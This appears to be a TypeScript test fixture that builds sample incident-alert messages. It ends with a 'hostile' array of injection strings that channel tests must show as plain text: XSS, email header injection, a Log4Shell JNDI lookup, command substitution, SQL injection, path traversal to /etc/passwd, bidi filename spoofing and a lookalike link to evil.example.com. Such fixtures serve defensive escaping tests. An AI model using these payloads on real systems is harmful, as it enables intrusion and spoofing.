import type { AlertChange, Invitation, Notice, Page, RoomOpening } from '#app/outbox/message';

const carried = {
  key: 'INC-000042.1.page.rule.1.alice',
  incidentId: 'INC-000042',
  cycle: 1,
  severity: 'SEV1',
  subject: 'SEV1 analysis-service is down',
  text: 'SEV1 analysis-service is down since 03:00Z',
  mayBeRepeat: false,
  actions: [],
};

/** A page as the sender passes it to its channel. */
export const page = (changes: Partial<Page> = {}): Page => ({ ...carried, kind: 'page', ...changes });

/** What becomes of the alert that the page above has made. */
export const alertChange = (changes: Partial<AlertChange> = {}): AlertChange => ({
  ...carried,
  kind: 'alert',
  change: 'acknowledge',
  ...changes,
});

/** The first news of an incident to a place. */
export const notice = (changes: Partial<Notice> = {}): Notice => ({
  ...carried,
  key: 'INC-000042.1.opened.news',
  kind: 'notice',
  public: { status: 'investigating', impact: 'major' },
  services: ['analysis-service'],
  over: false,
  ...changes,
});

/** The opening of an incident's room. */
export const roomOpening = (changes: Partial<RoomOpening> = {}): RoomOpening => ({
  ...carried,
  key: 'INC-000042.1.room.card',
  kind: 'room',
  room: { name: 'inc-000042', private: true, people: [], purpose: 'INC-000042: analysis-service is down' },
  ...changes,
});

/** The invitation to an incident's review. */
export const invitation = (changes: Partial<Invitation> = {}): Invitation => ({
  ...carried,
  key: 'INC-000042.1.review.invitation',
  kind: 'invitation',
  ics: 'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n',
  from: 'team@example.com',
  ...changes,
});

/** Strings of strangers. Each must arrive as text: what is shown is what is asserted by each channel's own tests. */
export const hostile = [
  '<!channel> <!here> <!everyone> <@U0123> <#C0123>',
  '<https://evil.example.com|your bank>',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '&lt;!channel&gt; &amp;amp;',
  'subject\r\nBcc: victim@example.com\r\n\r\nbody',
  'red \u001b[31malert\u001b[0m \u0007 \u0000 nul',
  'user\u202egpj.exe \u2066isolated\u2069',
  'half \ud83d of a character',
  '🔔'.repeat(40),
  'Zalgo: h\u0336\u0321e\u0335\u0322',
  '${jndi:ldap://x/y} {{7*7}} {% raw %} `id` $(id)',
  "'; DROP TABLE incidents; --",
  '../../etc/passwd',
  '__proto__ constructor',
];
